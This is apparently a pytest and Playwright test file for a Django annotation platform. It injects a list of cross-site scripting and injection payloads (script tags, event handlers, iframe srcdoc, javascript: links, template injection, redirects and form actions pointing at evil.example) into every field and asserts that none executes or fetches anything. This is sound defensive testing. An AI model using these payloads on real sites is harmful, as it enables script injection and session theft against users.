"""Payloads in every field that is imported or typed, on every page: none runs, none becomes an element."""

from __future__ import annotations

import json
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from uuid import uuid4

import pytest
from django.core.management import call_command
from django.urls import reverse
from playwright.sync_api import BrowserContext, Page

from annotation.actions.campaigns import add_member
from annotation.actions.claims import claim, open_slot, skip
from annotation.actions.submissions import Handed, submit_sensitivity, submit_verification
from annotation.labels import SensitivityAnswers, SensitivitySpan, Verdict, VerificationAnswer
from annotation.models import Campaign, Kind, Slot, Task
from common import clock
from exports.models import Release
from flagging.models import ModelPass
from people.models import Contributor, User
from review.actions import settle

# Each would set window.hit, or fetch from elsewhere, if a page took it for more than text.
PAYLOADS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "\"><svg onload=window.hit=1>",
    "'><svg/onload=window.hit=1>",
    "</textarea><img src=x onerror=window.hit=1>",
    "</title><style>@import '//evil.example/x.css';</style>",
    "\" autofocus onfocus=\"window.hit=1\" x=\"",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<div hx-get='/accounts/logout/' hx-trigger='load'>hx</div>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "[a](javascript:window.hit=1) ![b](//evil.example/b.png) <javascript:window.hit=1>",
    "{{7*7}}{% debug %}${window.hit=1}",
    "<!--<p --!><script>window.hit=1</script>",
    "\u202e<b onclick=window.hit=1>\u2066",
)  # fmt: skip
ALL = " ".join(PAYLOADS)
SHORT = '"><img src=x onerror=window.hit=1><script>window.hit=1</script>'
WHERE = 'javascript:window.hit=1//https://evil.example/"><script>window.hit=1</script>'


def hostile_row(number: int) -> dict[str, object]:
    return {
        "sample_id": f"{SHORT}{number}", "subject": SHORT, "subject_category": SHORT,
        "question": f"{number} {ALL}", "answer": "A",
        **{f"option_{letter}": f"{letter}{number} {ALL}" for letter in "abcd"},
    }  # fmt: skip


def written(path: Path, rows: list[dict[str, object]]) -> str:
    path.write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    return str(path)


@pytest.fixture
def campaign(transactional_db, cast, tmp_path) -> Campaign:
    for user in User.objects.all():
        User.objects.filter(pk=user.pk).update(name=f"{user.name} {SHORT}")
    rows = [hostile_row(number) for number in range(5)]
    # One options twice and one left as it is: the checks quote them on their pages.
    translated = [{**row, "question": f"السؤال {ALL}", "option_a": f"س {ALL}"} for row in rows]
    quiet = {"verbosity": 0, "stdout": (tmp_path / "said").open("w"), "stderr": (tmp_path / "err").open("w")}
    call_command(
        "import_items", written(tmp_path / "en.jsonl", rows),
        benchmark="hostile", language="en", licence=SHORT, source_url=WHERE, maker=SHORT, split="test", **quiet,
    )  # fmt: skip
    call_command(
        "import_translations", written(tmp_path / "ar.jsonl", translated),
        benchmark="hostile", language="ar", system=SHORT, licence=SHORT, source_url=WHERE, maker=SHORT, **quiet,
    )  # fmt: skip
    guidelines = tmp_path / "guidelines.md"
    guidelines.write_text("# " + "\n\n".join(PAYLOADS), encoding="utf-8")
    call_command(
        "open_campaign", "hostile", benchmark="hostile", languages="ar", name=SHORT, guidelines=guidelines,
        sensitivity_overlap=1, **quiet,
    )  # fmt: skip
    campaign = Campaign.objects.get(slug="hostile")
    for person in (cast.ana, cast.ben):
        for language in ("ar", "en"):
            add_member(
                campaign=campaign, contributor=person, language=language, standing="professional",
                by=cast.mia, now=clock.now(),
            )  # fmt: skip
    return campaign


def taken(campaign: Campaign, person: Contributor, kind: Kind) -> Slot:
    language = "ar" if kind == Kind.VERIFICATION else "en"
    slot = claim(campaign=campaign, kind=kind, language=language, by=person, now=clock.now())
    assert slot is not None
    open_slot(slot=slot, by=person, now=clock.now())
    return slot


def judge(campaign: Campaign, person: Contributor, answer: VerificationAnswer) -> Task:
    slot = taken(campaign, person, Kind.VERIFICATION)
    submit_verification(
        slot=slot, answer=answer, handed=Handed(uuid4(), 1, 1), by=person, now=clock.now()
    )  # fmt: skip
    return slot.task


@pytest.fixture
def judged(campaign, cast) -> Task:
    """Every typed field has its payload: edit, notes, reasons, skips, spans, decisions. Returns a task to decide."""
    fields = {
        name: f"{name} {ALL} edited" for name in ("question", "option_a", "option_b", "option_c", "option_d")
    }
    judge(campaign, cast.ana, VerificationAnswer(Verdict.EDIT, fields=fields, note=ALL))
    rejected = judge(campaign, cast.ana, VerificationAnswer(Verdict.REJECT, reason="other", note=ALL))
    again = judge(campaign, cast.ana, VerificationAnswer(Verdict.REJECT, reason="source_wrong", note=ALL))
    now = clock.now()
    settle(task=again, outcome="write", fields=fields, reason=ALL, by=cast.rui, now=now)
    slot = taken(campaign, cast.ana, Kind.SENSITIVITY)
    answers = SensitivityAnswers(tags=("cultural",), spans=(SensitivitySpan(2, 10, "Cultural", ALL[:8]),))
    submit_sensitivity(slot=slot, answers=answers, note=ALL, handed=Handed(uuid4(), 1), by=cast.ana, now=now)
    skip(slot=taken(campaign, cast.ana, Kind.SENSITIVITY), reason=SHORT, by=cast.ana, now=now)
    return rejected


class Elements(HTMLParser):
    """Complains of what a strict policy exists to stop: inline scripts, handlers, styles, foreign addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if tag in ("iframe", "object", "embed", "base") or (tag == "script" and "src" not in names):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc") or foreign(tag, name, value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")


def foreign(tag: str, name: str, value: str) -> bool:
    """A page fetches nothing from elsewhere; guidelines may hold a link for a person to follow."""
    if name not in ("href", "src", "action", "srcset"):
        return False
    return value.startswith("java") or (tag != "a" and value.startswith(("//", "http")))


def pages_of(name: str, campaign: Campaign, judged: Task, cast: object) -> Iterator[str]:
    if name == "ana":
        yield reverse("home")
        yield reverse("guidelines", args=[campaign.slug])
        yield reverse("slot", args=[taken(campaign, cast.ana, Kind.VERIFICATION).public_id])
        yield reverse("slot", args=[taken(campaign, cast.ana, Kind.SENSITIVITY).public_id])
        return
    if name == "rui":
        yield reverse("review:queue")
        yield reverse("review:task", args=[judged.public_id])
        for task in Task.objects.filter(campaign=campaign, kind=Kind.VERIFICATION).exclude(pk=judged.pk):
            yield reverse("review:task", args=[task.public_id])
        yield reverse("review:source_reports")
    yield reverse("review:campaigns")
    yield reverse("review:progress", args=[campaign.slug])
    if name == "mia":
        yield reverse("flagging:passes")
        for one in ModelPass.objects.all():
            yield reverse("flagging:pass", args=[one.public_id])
            for detector in sorted(set(one.flags.values_list("detector", flat=True))):
                yield reverse("flagging:findings", args=[one.public_id, detector])
        yield reverse("releases")
        for release in Release.objects.all():
            yield reverse("release", args=[release.public_id])


@pytest.mark.parametrize("name", ["ana", "rui", "mia"])
def test_no_payload_runs_on_any_page(
    name, campaign, judged, cast, as_person, context: BrowserContext, live_server, tmp_path
):
    if name == "mia":
        call_command(
            "make_release", "hostile", "1.0", output=tmp_path / "release", allow_open=True,
            stdout=(tmp_path / "told").open("w"),
        )  # fmt: skip
    strange: list[str] = []
    context.on(
        "request", lambda request: strange.append(request.url) if live_server.url not in request.url else None
    )
    page: Page = as_person(name)
    page.on("dialog", lambda dialog: strange.append(dialog.message))
    seen = 0
    for address in pages_of(name, campaign, judged, cast):
        answer = page.goto(live_server.url + address)
        assert answer is not None and answer.status == 200, address
        elements = Elements()
        elements.feed(answer.text())
        assert elements.found == [], address
        assert "window.hit" in page.content(), f"{address} shows no payload: it proves nothing"
        assert page.evaluate("window.hit") is None, address
        assert page.url == live_server.url + address
        seen += 1
    assert seen >= 4
    assert strange == []
